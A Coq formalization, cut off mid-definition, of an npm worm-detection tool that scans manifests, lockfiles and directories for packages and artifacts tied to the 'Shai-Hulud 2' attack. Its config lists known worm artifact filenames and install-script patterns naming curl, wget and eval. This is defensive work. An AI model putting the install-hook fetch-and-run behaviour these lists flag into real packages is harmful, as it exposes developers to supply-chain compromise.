(** * Worm Buster detection engine: loader, scanner and analyzer

    A shallow embedding of [lib/loader.js], [lib/scanner.js],
    [lib/analyzer.js] and the constants of [lib/config.js], followed by the
    properties of the detection engine.

    JavaScript strings are modelled by [string]: one [ascii] per UTF-16
    code unit, which covers the code units below 256.  A JavaScript [Map]
    or [Set] iterates in insertion order and [Array.from] exposes that
    order, so both are modelled by insertion-ordered lists. *)

From Stdlib Require Import String Ascii List Bool Arith ZArith Lia.
From Stdlib Require Import DecimalString.
Set Warnings "-register-all".
Import ListNotations.
Open Scope string_scope.
Open Scope bool_scope.

(** ** String.prototype methods used by the sources *)
Module JsString.

Definition TAB : string := String (ascii_of_nat 9) "".
Definition LF : string := String (ascii_of_nat 10) "".

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String b p', String a s' => Ascii.eqb a b && startsWith s' p'
  end.

(** [s.endsWith(p)] *)
Fixpoint endsWith (s p : string) : bool :=
  String.eqb s p ||
  match s with
  | EmptyString => false
  | String _ s' => endsWith s' p
  end.

(** [s.includes(sub)] *)
Fixpoint includes (s sub : string) : bool :=
  startsWith s sub ||
  match s with
  | EmptyString => false
  | String _ s' => includes s' sub
  end.

(** The WhiteSpace and LineTerminator code points of ECMAScript that lie
    below 256: TAB, LF, VT, FF, CR, SP and NBSP. *)
Definition isWhiteSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat || (n =? 160)%nat.

Definition isEmpty (s : string) : bool :=
  match s with EmptyString => true | String _ _ => false end.

Fixpoint trimStart (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if isWhiteSpace c then trimStart s' else s
  end.

Fixpoint trimEnd (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      let t := trimEnd s' in
      if isWhiteSpace c && isEmpty t then EmptyString else String c t
  end.

(** [s.trim()] *)
Definition trim (s : string) : string := trimEnd (trimStart s).

Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S _, EmptyString => EmptyString
  | S k, String _ s' => drop k s'
  end.

(** [s.split(sep)] for a non-empty separator string.  [skip] counts the
    code units of a separator occurrence that are still to be consumed;
    the head of the result is the piece being read. *)
Fixpoint split_from (sep : string) (skip : nat) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      match skip with
      | S k => split_from sep k s'
      | O =>
          if startsWith s sep
          then EmptyString :: split_from sep (String.length sep - 1) s'
          else match split_from sep 0 s' with
               | piece :: pieces => String c piece :: pieces
               | [] => [String c EmptyString]
               end
      end
  end.

Definition split (s sep : string) : list string := split_from sep 0 s.

(** [s.replace(pat, repl)] with a string pattern: only the first
    occurrence is replaced. *)
Fixpoint replace (s pat repl : string) : string :=
  if startsWith s pat then repl ++ drop (String.length pat) s
  else match s with
       | EmptyString => EmptyString
       | String c s' => String c (replace s' pat repl)
       end.

(** [arr.join(sep)] *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => EmptyString
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** [arr[arr.length - 1]]; the arrays it is applied to are never empty. *)
Definition lastOf (l : list string) : string := List.last l EmptyString.

End JsString.
Import JsString.

(** ** lib/config.js *)
Module Config.

Definition MALICIOUS_ARTIFACTS : list string :=
  [ ".github/workflows/discussion.yaml";
    ".github/workflows/discussion.yml";
    "cloud.json";
    "contents.json";
    "environment.json";
    "truffleSecrets.json";
    "actionsSecrets.json";
    "setup_bun.js";
    "bun_environment.js" ].

Definition isDigit (c : ascii) : bool :=
  let n := nat_of_ascii c in (48 <=? n)%nat && (n <=? 57)%nat.

Fixpoint revString (s acc : string) : string :=
  match s with
  | EmptyString => acc
  | String c s' => revString s' (String c acc)
  end.

Fixpoint dropDigits (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if isDigit c then dropDigits s' else s
  end.

(** [SUSPICIOUS_WORKFLOW_PATTERN.test(name)] for the pattern
    [/formatter_\d+\.ya?ml$/]: the name is read backwards from its end,
    [ml], an optional [a], [y], a dot, at least one digit, and then
    [formatter_]. *)
Definition SUSPICIOUS_WORKFLOW_PATTERN_test (name : string) : bool :=
  let r := revString name "" in
  let afterExt :=
    if startsWith r "lmay." then Some (drop 5 r)
    else if startsWith r "lmy." then Some (drop 4 r)
    else None in
  match afterExt with
  | None => false
  | Some d =>
      match d with
      | String c _ => isDigit c && startsWith (dropDigits d) "_rettamrof"
      | EmptyString => false
      end
  end.

Definition DEPENDENCY_TYPES : list string :=
  [ "dependencies"; "devDependencies"; "peerDependencies";
    "optionalDependencies" ].

Definition SUSPICIOUS_SCRIPTS : list string :=
  [ "preinstall"; "postinstall"; "prepare" ].

Definition SUSPICIOUS_SCRIPT_PATTERNS : list string :=
  [ "bun"; "setup_"; "curl"; "wget"; "eval" ].

End Config.
Import Config.

(** ** Exceptions

    A call either returns a value or throws; [Throw] carries
    [err.message]. *)
Inductive result (A : Type) : Type :=
| Ok (value : A)
| Throw (message : string).
Arguments Ok {A} value.
Arguments Throw {A} message.

Definition bind {A B : Type} (r : result A) (k : A -> result B) : result B :=
  match r with
  | Ok a => k a
  | Throw m => Throw m
  end.

Notation "x <- r ;; k" := (bind r (fun x => k))
  (at level 61, r at next level, right associativity).

(** ** lib/loader.js *)
Module Loader.

(** [Set<string>] and [Map<string, Set<string>>], in insertion order. *)
Definition VersionSet : Type := list string.
Definition IOCDatabase : Type := list (string * VersionSet).

Definition Set_has (versions : VersionSet) (v : string) : bool :=
  existsb (String.eqb v) versions.

Definition Set_add (versions : VersionSet) (v : string) : VersionSet :=
  if Set_has versions v then versions else (versions ++ [v])%list.

Fixpoint Map_get (m : IOCDatabase) (k : string) : option VersionSet :=
  match m with
  | [] => None
  | (k', v) :: m' => if String.eqb k' k then Some v else Map_get m' k
  end.

Definition Map_has (m : IOCDatabase) (k : string) : bool :=
  match Map_get m k with Some _ => true | None => false end.

(** [m.set(k, v)]: an existing key keeps its position. *)
Fixpoint Map_set (m : IOCDatabase) (k : string) (v : VersionSet)
  : IOCDatabase :=
  match m with
  | [] => [(k, v)]
  | (k', v') :: m' =>
      if String.eqb k' k then (k, v) :: m' else (k', v') :: Map_set m' k v
  end.

(** [packages.get(name).add(version)] updates the set stored in the map
    in place, which is the [Map_set] of the enlarged set. *)
Definition addPackage (packages : IOCDatabase) (name version : string)
  : IOCDatabase :=
  let packages :=
    if Map_has packages name then packages else Map_set packages name [] in
  match Map_get packages name with
  | Some versions => Map_set packages name (Set_add versions version)
  | None => packages
  end.

Definition nonEmpty (s : string) : bool := negb (isEmpty s).

(** One iteration of the loop over the lines; the state is [inTable]
    and the map built so far. *)
Definition loadLine (st : bool * IOCDatabase) (line : string)
  : bool * IOCDatabase :=
  let '(inTable, packages) := st in
  if includes line "| Package" || includes line "|---" then
    (true, packages)
  else if inTable && startsWith line "|" then
    let parts := filter nonEmpty (map trim (split line "|")) in
    if (2 <=? List.length parts)%nat then
      let name := nth 0 parts "" in
      let version := nth 1 parts "" in
      if nonEmpty name && nonEmpty version
         && negb (includes name "Package")
      then (inTable, addPackage packages name version)
      else st
    else st
  else if includes line TAB then
    let parts := split (trim line) TAB in
    if (2 <=? List.length parts)%nat then
      let name := trim (nth 0 parts "") in
      let version := trim (nth 1 parts "") in
      if nonEmpty name && nonEmpty version
      then (inTable, addPackage packages name version)
      else st
    else st
  else st.

Definition loadLines (lines : list string) : IOCDatabase :=
  snd (fold_left loadLine lines (false, [])).

(** The body of [loadInfectedPackages] once the file has been read. *)
Definition loadContent (content : string) : IOCDatabase :=
  loadLines (split content LF).

Section WithFile.
(** [fs.readFileSync(path, 'utf8')] *)
Variable readFileSync : string -> result string.

Definition loadInfectedPackages (wormFile : string)
  : result IOCDatabase :=
  content <- readFileSync wormFile ;;
  Ok (loadContent content).
End WithFile.

(** [getPackageStats]: [(uniquePackages, totalVersions)]. *)
Definition getPackageStats (packages : IOCDatabase) : nat * nat :=
  (List.length packages,
   fold_left (fun total kv => total + List.length (snd kv))%nat packages 0%nat).

End Loader.
Import Loader.

(** ** lib/scanner.js *)
Module Scanner.

(** What [fs.readdirSync(dir, { withFileTypes: true })] yields, unfolded
    into a tree.  [Directory] is an entry whose [isDirectory()] is true,
    with the listing of that directory, [None] when reading it throws.
    [File] is any other entry (a regular file, a symbolic link, ...);
    [present] is what [fs.existsSync] answers for its path, false for a
    dangling link. *)
Inductive Dirent : Type :=
| File (name : string) (present : bool)
| Directory (name : string) (listing : option (list Dirent)).

Definition d_name (entry : Dirent) : string :=
  match entry with
  | File name _ => name
  | Directory name _ => name
  end.

Definition d_exists (entry : Dirent) : bool :=
  match entry with
  | File _ present => present
  | Directory _ _ => true
  end.

Inductive CandidateType : Type :=
| node_modules
| package_json
| package_lock_json.

(** [{ type, path }] *)
Record Candidate : Type := mkCandidate
  { c_type : CandidateType; c_path : string }.

(** [{ artifact, path }] *)
Record ArtifactHit : Type := mkHit
  { a_artifact : string; a_path : string }.

(** The inner loop over [MALICIOUS_ARTIFACTS] for one non-directory
    entry. *)
Definition matchArtifacts (artifacts : list string)
    (fullPath name : string) : list ArtifactHit :=
  flat_map
    (fun artifact =>
       let isPathArtifact := includes artifact "/" in
       let matches :=
         if isPathArtifact then endsWith fullPath artifact
         else String.eqb name artifact in
       if matches then [mkHit artifact fullPath] else [])
    artifacts.

Definition matchWorkflow (fullPath name : string) : list ArtifactHit :=
  if includes fullPath ".github/workflows/"
     && SUSPICIOUS_WORKFLOW_PATTERN_test name
  then [mkHit "suspicious_workflow" fullPath]
  else [].

(** Everything [findMaliciousArtifacts] does with a non-directory
    entry. *)
Definition testFile (fullPath name : string) : list ArtifactHit :=
  (matchArtifacts MALICIOUS_ARTIFACTS fullPath name
   ++ matchWorkflow fullPath name)%list.

Section WithPath.
(** [path.join] *)
Variable path_join : string -> string -> string.

(** The body of the loop of [findPackageFiles]'s [scan] for one entry
    of [currentDir]; the results are listed in the order of the
    pushes.  The [onError] callback only reports and is left out. *)
Fixpoint findPackageFiles_entry (currentDir : string) (entry : Dirent)
  : list Candidate :=
  let fullPath := path_join currentDir (d_name entry) in
  if String.eqb (d_name entry) "node_modules" then
    if d_exists entry then [mkCandidate node_modules fullPath] else []
  else if startsWith (d_name entry) "."
          && negb (String.eqb (d_name entry) ".github") then []
  else
    match entry with
    | Directory _ listing =>
        match listing with
        | Some entries =>
            flat_map (findPackageFiles_entry fullPath) entries
        | None => []
        end
    | File name _ =>
        if String.eqb name "package.json"
        then [mkCandidate package_json fullPath]
        else if String.eqb name "package-lock.json"
        then [mkCandidate package_lock_json fullPath]
        else []
    end.

Definition findPackageFiles_scan (currentDir : string)
    (listing : option (list Dirent)) : list Candidate :=
  match listing with
  | Some entries => flat_map (findPackageFiles_entry currentDir) entries
  | None => []
  end.

(** [findPackageFiles(dir)], for the listing [root] of [dir]. *)
Definition findPackageFiles (dir : string)
    (root : option (list Dirent)) : list Candidate :=
  findPackageFiles_scan dir root.

Fixpoint findMaliciousArtifacts_entry (currentDir : string)
    (entry : Dirent) : list ArtifactHit :=
  let fullPath := path_join currentDir (d_name entry) in
  if String.eqb (d_name entry) "node_modules" then []
  else
    match entry with
    | Directory _ listing =>
        match listing with
        | Some entries =>
            flat_map (findMaliciousArtifacts_entry fullPath) entries
        | None => []
        end
    | File name _ => testFile fullPath name
    end.

Definition findMaliciousArtifacts_scan (currentDir : string)
    (listing : option (list Dirent)) : list ArtifactHit :=
  match listing with
  | Some entries =>
      flat_map (findMaliciousArtifacts_entry currentDir) entries
  | None => []
  end.

(** [findMaliciousArtifacts(dir)], for the listing [root] of [dir]. *)
Definition findMaliciousArtifacts (dir : string)
    (root : option (list Dirent)) : list ArtifactHit :=
  findMaliciousArtifacts_scan dir root.

End WithPath.

(** [path.join] on POSIX for a directory path that is already
    normalised and is neither [/] nor [.]. *)
Definition posix_join (dir name : string) : string := dir ++ "/" ++ name.

End Scanner.
Import Scanner.

(** ** lib/analyzer.js *)
Module Analyzer.

(** A value returned by [JSON.parse].  The properties of an object are
    listed in the order in which [Object.entries] enumerates them, each
    key once.  The analyzer only tests a number for truthiness, so a
    number is kept as an integer, zero for [0] and [-0]. *)
Inductive json : Type :=
| JNull
| JBool (b : bool)
| JNumber (n : Z)
| JString (s : string)
| JArray (items : list json)
| JObject (props : list (string * json)).

(** A JavaScript value read by the analyzer: [None] is [undefined]. *)
Definition value : Type := option json.

Definition truthy (v : value) : bool :=
  match v with
  | None => false
  | Some JNull => false
  | Some (JBool b) => b
  | Some (JNumber n) => negb (n =? 0)%Z
  | Some (JString s) => negb (isEmpty s)
  | Some (JArray _) => true
  | Some (JObject _) => true
  end.

Fixpoint lookup (props : list (string * json)) (key : string) : value :=
  match props with
  | [] => None
  | (k, v) :: rest => if String.eqb k key then Some v else lookup rest key
  end.

(** [v[key]] for the property names the analyzer reads; none of them is
    an array index or a member of a built-in prototype, so only an
    object has them. *)
Definition getProp (v : value) (key : string) : result value :=
  match v with
  | None => Throw "Cannot read properties of undefined"
  | Some JNull => Throw "Cannot read properties of null"
  | Some (JObject props) => Ok (lookup props key)
  | Some _ => Ok None
  end.

Definition indexName (i : nat) : string :=
  NilEmpty.string_of_uint (Nat.to_uint i).

Fixpoint indexed {A : Type} (i : nat) (l : list A) : list (string * A) :=
  match l with
  | [] => []
  | x :: rest => (indexName i, x) :: indexed (S i) rest
  end.

Fixpoint chars (s : string) : list json :=
  match s with
  | EmptyString => []
  | String c s' => JString (String c EmptyString) :: chars s'
  end.

(** [Object.entries(v)] *)
Definition Object_entries (v : value) : result (list (string * json)) :=
  match v with
  | None => Throw "Cannot convert undefined or null to object"
  | Some JNull => Throw "Cannot convert undefined or null to object"
  | Some (JObject props) => Ok props
  | Some (JArray items) => Ok (indexed 0 items)
  | Some (JString s) => Ok (indexed 0 (chars s))
  | Some _ => Ok []
  end.

Inductive FindingType : Type :=
| INFECTED_PACKAGE
| KNOWN_TARGET
| SUSPICIOUS_SCRIPT
| INFECTED_LOCKED_PACKAGE
| INSTALLED_INFECTED_PACKAGE
| MALICIOUS_ARTIFACT
| PARSE_ERROR
| READ_ERROR.

Inductive Severity : Type := CRITICAL | WARNING | INFO.

(** A finding object; an absent property is [None]. *)
Record Finding : Type := mkFinding
  { type : FindingType;
    severity : Severity;
    package : option string;
    version : option string;
    declaredVersion : option json;
    infectedVersions : option (list string);
    depType : option string;
    file : option string;
    path : option string;
    artifact : option string;
    script : option string;
    content : option json;
    message : option string;
    note : option string;
    installed : option bool }.

Record Options : Type := mkOptions { verbose : bool }.

(** A [for ... of] loop whose body may throw, over the state [S]. *)
Fixpoint forEach {A S : Type} (l : list A) (body : A -> S -> result S)
    (s : S) : result S :=
  match l with
  | [] => Ok s
  | x :: rest => s' <- body x s ;; forEach rest body s'
  end.

Definition isRangeOperator (c : ascii) : bool :=
  Ascii.eqb c "^" || Ascii.eqb c "~" || Ascii.eqb c ">"
  || Ascii.eqb c "=" || Ascii.eqb c "<".

(** [s.replace(/^[\^~>=<]+/, '')] *)
Fixpoint stripLeadingOperators (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if isRangeOperator c then stripLeadingOperators s' else s
  end.

(** [extractVersion] on a string. *)
Definition extractVersion (versionSpec : string) : string :=
  nth 0 (split (stripLeadingOperators versionSpec) " ") "".

(** [extractVersion] on what a manifest holds: only a string has a
    [replace] method. *)
Definition extractVersion_of (versionSpec : json) : result string :=
  match versionSpec with
  | JString s => Ok (extractVersion s)
  | _ => Throw "versionSpec.replace is not a function"
  end.

(** [infectedVersions.has(v)] for an arbitrary value. *)
Definition Set_has_value (versions : VersionSet) (v : value) : bool :=
  match v with
  | Some (JString s) => Set_has versions s
  | _ => false
  end.

(** [infectedPackages.get(name)] followed by a method call on it. *)
Definition getVersions (infectedPackages : IOCDatabase) (name : string)
  : result VersionSet :=
  match Map_get infectedPackages name with
  | Some versions => Ok versions
  | None => Throw "Cannot read properties of undefined"
  end.

Definition parseError_file (filePath msg : string) : Finding :=
  mkFinding PARSE_ERROR INFO None None None None None (Some filePath) None
    None None None (Some ("Failed to parse: " ++ msg)) None None.

Definition parseError_path (jsonPath msg : string) : Finding :=
  mkFinding PARSE_ERROR INFO None None None None None None (Some jsonPath)
    None None None (Some ("Failed to parse: " ++ msg)) None None.

Definition readError (dirPath msg : string) : Finding :=
  mkFinding READ_ERROR INFO None None None None None None (Some dirPath)
    None None None (Some ("Failed to read: " ++ msg)) None None.

Definition infectedPackage (pkg ver : string) (spec : json)
    (dep filePath : string) : Finding :=
  mkFinding INFECTED_PACKAGE CRITICAL (Some pkg) (Some ver) (Some spec)
    None (Some dep) (Some filePath) None None None None None None None.

Definition knownTarget (pkg ver : string) (spec : json)
    (versions : VersionSet)
    (dep filePath : string) : Finding :=
  mkFinding KNOWN_TARGET WARNING (Some pkg) (Some ver) (Some spec)
    (Some versions) (Some dep) (Some filePath) None None None None None
    (Some ("This package was compromised in the Shai-Hulud 2 attack but you have a different version. Do NOT upgrade to: "
           ++ join ", " versions))
    None.

Definition suspiciousScript (name : string) (body : json)
    (filePath : string) : Finding :=
  mkFinding SUSPICIOUS_SCRIPT WARNING None None None None None
    (Some filePath) None None (Some name) (Some body) None None None.

Definition infectedLockedPackage (pkg ver filePath : string) : Finding :=
  mkFinding INFECTED_LOCKED_PACKAGE CRITICAL (Some pkg) (Some ver) None
    None None (Some filePath) None None None None None None (Some true).

Definition installedInfectedPackage (pkg ver pkgPath : string) : Finding :=
  mkFinding INSTALLED_INFECTED_PACKAGE CRITICAL (Some pkg) (Some ver) None
    None None None (Some pkgPath) None None None None None None.

Section WithFileSystem.
(** [fs.readFileSync(path, 'utf8')], [JSON.parse], [fs.existsSync],
    [path.join] and [fs.readdirSync(path, { withFileTypes: true })],
    the last one as pairs of [name] and [isDirectory()]. *)
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).

(** [JSON.parse(fs.readFileSync(filePath, 'utf8'))] *)
Definition readJson (filePath : string) : result json :=
  text <- readFileSync filePath ;;
  JSON_parse text.

(** The body of the inner loop of [checkPackageJson] for one entry
    [[pkg, versionSpec]] of the section [dep]. *)
Definition checkDependency (filePath : string)
    (infectedPackages : IOCDatabase) (dep : string)
    (entry : string * json) (findings : list Finding)
  : result (list Finding) :=
  let '(pkg, versionSpec) := entry in
  if negb (Map_has infectedPackages pkg) then Ok findings
  else
    ver <- extractVersion_of versionSpec ;;
    versions <- getVersions infectedPackages pkg ;;
    if Set_has versions ver
    then Ok (findings
             ++ [infectedPackage pkg ver versionSpec dep filePath])%list
    else Ok (findings
             ++ [knownTarget pkg ver versionSpec versions dep filePath])%list.

(** The body of the outer loop of [checkPackageJson] for one
    dependency type. *)
Definition checkDependencyType (filePath : string)
    (infectedPackages : IOCDatabase) (parsed : json) (dep : string)
    (findings : list Finding) : result (list Finding) :=
  section <- getProp (Some parsed) dep ;;
  if negb (truthy section) then Ok findings
  else
    entries <- Object_entries section ;;
    forEach entries (checkDependency filePath infectedPackages dep)
      findings.

(** [SUSPICIOUS_SCRIPT_PATTERNS.some(p => scriptContent.includes(p))]:
    a string has [includes] on substrings, an array on elements, and
    nothing else has the method. *)
Definition isSuspicious (scriptContent : json) : result bool :=
  match scriptContent with
  | JString s => Ok (existsb (includes s) SUSPICIOUS_SCRIPT_PATTERNS)
  | JArray items =>
      Ok (existsb
            (fun pattern =>
               existsb
                 (fun item =>
                    match item with
                    | JString s => String.eqb s pattern
                    | _ => false
                    end)
                 items)
            SUSPICIOUS_SCRIPT_PATTERNS)
  | _ => Throw "scriptContent.includes is not a function"
  end.

Definition checkScript (filePath : string) (scripts : value)
    (name : string) (findings : list Finding) : result (list Finding) :=
  body <- getProp scripts name ;;
  match body with
  | Some scriptContent =>
      if negb (truthy body) then Ok findings
      else
        suspicious <- isSuspicious scriptContent ;;
        if suspicious
        then Ok (findings
                 ++ [suspiciousScript name scriptContent filePath])%list
        else Ok findings
  | None => Ok findings
  end.

Definition checkPackageJson (filePath : string)
    (infectedPackages : IOCDatabase) (options : Options)
  : result (list Finding) :=
  match readJson filePath with
  | Throw msg =>
      Ok (if verbose options then [parseError_file filePath msg] else [])
  | Ok parsed =>
      findings <- forEach DEPENDENCY_TYPES
                    (checkDependencyType filePath infectedPackages parsed)
                    [] ;;
      scripts <- getProp (Some parsed) "scripts" ;;
      if truthy scripts
      then forEach SUSPICIOUS_SCRIPTS (checkScript filePath scripts)
             findings
      else Ok findings
  end.

(** [infectedPackages.has(name) && info.version], then the membership
    test and the push, shared by both lockfile shapes. *)
Definition checkLocked (filePath : string)
    (infectedPackages : IOCDatabase) (name : string) (info : json)
    (findings : list Finding) : result (list Finding) :=
  if Map_has infectedPackages name then
    ver <- getProp (Some info) "version" ;;
    if truthy ver then
      versions <- getVersions infectedPackages name ;;
      match ver with
      | Some (JString v) =>
          if Set_has versions v
          then Ok (findings ++ [infectedLockedPackage name v filePath])%list
          else Ok findings
      | _ => Ok findings
      end
    else Ok findings
  else Ok findings.

(** [checkDependenciesV1(deps, filePath, infectedPackages, findings)];
    the recursion follows the nesting of the document, and reading
    [info.dependencies] is written as a search through the properties
    of [info]. *)
Fixpoint checkDependenciesV1 (deps : json) (filePath : string)
    (infectedPackages : IOCDatabase) (findings : list Finding)
    {struct deps} : result (list Finding) :=
  let visit (name : string) (info : json) (findings : list Finding)
    : result (list Finding) :=
    findings <- checkLocked filePath infectedPackages name info findings ;;
    match info with
    | JNull => Throw "Cannot read properties of null"
    | JObject props =>
        (fix nested (ps : list (string * json)) : result (list Finding) :=
           match ps with
           | [] => Ok findings
           | (k, v) :: rest =>
               if String.eqb k "dependencies" then
                 if truthy (Some v)
                 then checkDependenciesV1 v filePath infectedPackages
                        findings
                 else Ok findings
               else nested rest
           end) props
    | _ => Ok findings
    end in
  match deps with
  | JNull => Throw "Cannot convert undefined or null to object"
  | JObject props =>
      (fix loop (ps : list (string * json)) (findings : list Finding)
         : result (list Finding) :=
         match ps with
         | [] => Ok findings
         | (name, info) :: rest =>
             findings <- visit name info findings ;;
             loop rest findings
         end) props findings
  | JArray items =>
      (fix loop (i : nat) (l : list json) (findings : list Finding)
         : result (list Finding) :=
         match l with
         | [] => Ok findings
         | info :: rest =>
             findings <- visit (indexName i) info findings ;;
             loop (S i) rest findings
         end) 0%nat items findings
  | JString s =>
      forEach (indexed 0 (chars s))
        (fun entry findings =>
           checkLocked filePath infectedPackages (fst entry) (snd entry)
             findings)
        findings
  | JBool _ => Ok findings
  | JNumber _ => Ok findings
  end.

(** [pkgPath.replace('node_modules/', '').split('node_modules/')] and
    its last element. *)
Definition lockedPackageName (pkgPath : string) : string :=
  let parts := split (replace pkgPath "node_modules/" "") "node_modules/" in
  lastOf parts.

(** The body of the loop over [Object.entries(packages)]. *)
Definition checkLockEntry (filePath : string)
    (infectedPackages : IOCDatabase) (entry : string * json)
    (findings : list Finding) : result (list Finding) :=
  let '(pkgPath, pkgInfo) := entry in
  if isEmpty pkgPath then Ok findings
  else
    let pkgName := lockedPackageName pkgPath in
    checkLocked filePath infectedPackages pkgName pkgInfo findings.

Definition checkPackageLock (filePath : string)
    (infectedPackages : IOCDatabase) (options : Options)
  : result (list Finding) :=
  match readJson filePath with
  | Throw msg =>
      Ok (if verbose options then [parseError_file filePath msg] else [])
  | Ok parsed =>
      declared <- getProp (Some parsed) "packages" ;;
      let packages :=
        if truthy declared then declared else Some (JObject []) in
      entries <- Object_entries packages ;;
      findings <- forEach entries
                    (checkLockEntry filePath infectedPackages) [] ;;
      deps <- getProp (Some parsed) "dependencies" ;;
      match deps with
      | Some d =>
          if truthy deps
          then checkDependenciesV1 d filePath infectedPackages findings
          else Ok findings
      | None => Ok findings
      end
  end.

Definition checkInstalledPackage (pkgName pkgPath : string)
    (infectedPackages : IOCDatabase) (findings : list Finding)
    (options : Options) : result (list Finding) :=
  if negb (Map_has infectedPackages pkgName) then Ok findings
  else
    let pkgJsonPath := path_join pkgPath "package.json" in
    if negb (existsSync pkgJsonPath) then Ok findings
    else
      match readJson pkgJsonPath with
      | Throw msg =>
          Ok (if verbose options
              then (findings ++ [parseError_path pkgJsonPath msg])%list
              else findings)
      | Ok pkgJson =>
          versions <- getVersions infectedPackages pkgName ;;
          ver <- getProp (Some pkgJson) "version" ;;
          match ver with
          | Some (JString v) =>
              if Set_has versions v
              then Ok (findings
                       ++ [installedInfectedPackage pkgName v pkgPath])%list
              else Ok findings
          | _ => Ok findings
          end
      end.

Definition checkNodeModules (nodeModulesPath : string)
    (infectedPackages : IOCDatabase) (options : Options)
  : result (list Finding) :=
  match readdirSync nodeModulesPath with
  | Throw msg =>
      Ok (if verbose options then [readError nodeModulesPath msg] else [])
  | Ok entries =>
      forEach entries
        (fun entry findings =>
           let '(name, isDirectory) := entry in
           if negb isDirectory then Ok findings
           else if startsWith name "@" then
             let scopePath := path_join nodeModulesPath name in
             match readdirSync scopePath with
             | Throw _ => Ok findings
             | Ok scopedEntries =>
                 forEach scopedEntries
                   (fun scopedEntry findings =>
                      let '(scopedName, scopedIsDirectory) := scopedEntry in
                      if negb scopedIsDirectory then Ok findings
                      else
                        let pkgName := name ++ "/" ++ scopedName in
                        let pkgPath := path_join scopePath scopedName in
                        checkInstalledPackage pkgName pkgPath
                          infectedPackages findings options)
                   findings
             end
           else
             let pkgPath := path_join nodeModulesPath name in
             checkInstalledPackage name pkgPath infectedPackages findings
               options)
        []
  end.

End WithFileSystem.

End Analyzer.
Import Analyzer.

(** ** worm-buster.js: the artifact pass of [scan] *)
Module Main.

(** [{ type: 'MALICIOUS_ARTIFACT', severity: 'CRITICAL', ...artifact }] *)
Definition maliciousArtifact (hit : ArtifactHit) : Finding :=
  mkFinding MALICIOUS_ARTIFACT CRITICAL None None None None None None
    (Some (a_path hit)) (Some (a_artifact hit)) None None None None None.

(** The findings pushed for one scanned directory. *)
Definition artifactFindings (path_join : string -> string -> string)
    (dir : string) (root : option (list Dirent)) : list Finding :=
  map maliciousArtifact (findMaliciousArtifacts path_join dir root).

End Main.
Import Main.

(** ** Definitions used to state the properties *)
Module Spec.

(** The piece of [s] before its first delimiter, all of [s] when it has
    none. *)
Fixpoint firstTokenBy (delimiter : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if delimiter c then EmptyString
      else String c (firstTokenBy delimiter s')
  end.

Fixpoint allChars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => p c && allChars p s'
  end.

Definition headChar (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c _ => p c
  end.

(** The reduction of a version range in the words of the
    specification: the leading range operators are stripped and the
    first whitespace-delimited token is taken. *)
Definition reduceVersionSpec (versionSpec : string) : string :=
  firstTokenBy isWhiteSpace (stripLeadingOperators versionSpec).

Section Reached.
Variable path_join : string -> string -> string.

(** [ScannedFile currentDir entries fullPath name]: below the listing
    [entries] of [currentDir] there is a non-directory entry [name]
    with full path [fullPath], and neither it nor any directory on
    the way to it is called [node_modules]; every directory on the
    way can be read. *)
Inductive ScannedFile
  : string -> list Dirent -> string -> string -> Prop :=
| scanned_here currentDir entries name present :
    In (File name present) entries ->
    name <> "node_modules" ->
    ScannedFile currentDir entries (path_join currentDir name) name
| scanned_below currentDir entries dir sub fullPath name :
    In (Directory dir (Some sub)) entries ->
    dir <> "node_modules" ->
    ScannedFile (path_join currentDir dir) sub fullPath name ->
    ScannedFile currentDir entries fullPath name.
End Reached.

(** The tree without its [node_modules] entries, at every depth. *)
Fixpoint pruneEntry (entry : Dirent) : Dirent :=
  match entry with
  | File _ _ => entry
  | Directory name None => entry
  | Directory name (Some entries) =>
      Directory name
        (Some
           (flat_map
              (fun e =>
                 if String.eqb (d_name e) "node_modules" then []
                 else [pruneEntry e])
              entries))
  end.

Definition prune (entries : list Dirent) : list Dirent :=
  flat_map
    (fun e =>
       if String.eqb (d_name e) "node_modules" then [] else [pruneEntry e])
    entries.

(** The package name of a lockfile key in the words of the
    specification: the leading [node_modules/] is stripped and the last
    [node_modules/]-delimited segment is taken. *)
Definition derivedPackageName (key : string) : string :=
  let stripped :=
    if startsWith key "node_modules/"
    then drop (String.length "node_modules/") key
    else key in
  lastOf (split stripped "node_modules/").

Definition optEq (field : option string) (s : string) : bool :=
  match field with
  | Some x => String.eqb x s
  | None => false
  end.

(** The findings whose [package] is [pkg] and whose [depType] is
    [dep]. *)
Definition aboutDependency (dep pkg : string) (f : Finding) : bool :=
  optEq (package f) pkg && optEq (depType f) dep.

(** What one declared pair of the section [dep] adds to the findings of
    a call of [checkPackageJson] that returns. *)
Definition dependencyFindings (filePath : string)
    (infectedPackages : IOCDatabase) (dep : string)
    (entry : string * json) : list Finding :=
  match Map_get infectedPackages (fst entry), snd entry with
  | Some versions, JString spec =>
      let ver := extractVersion spec in
      [if Set_has versions ver
       then infectedPackage (fst entry) ver (JString spec) dep filePath
       else knownTarget (fst entry) ver (JString spec) versions dep filePath]
  | _, _ => []
  end.

Definition sectionFindings (filePath : string)
    (infectedPackages : IOCDatabase) (parsed : json) (dep : string)
  : list Finding :=
  match getProp (Some parsed) dep with
  | Ok section =>
      if truthy section then
        match Object_entries section with
        | Ok entries =>
            flat_map (dependencyFindings filePath infectedPackages dep)
              entries
        | Throw _ => []
        end
      else []
  | Throw _ => []
  end.

(** A manifest of the expected shape: an object whose dependency
    sections and [scripts], where present and not falsy, are objects with
    string values. *)
Definition stringValued (props : list (string * json)) : Prop :=
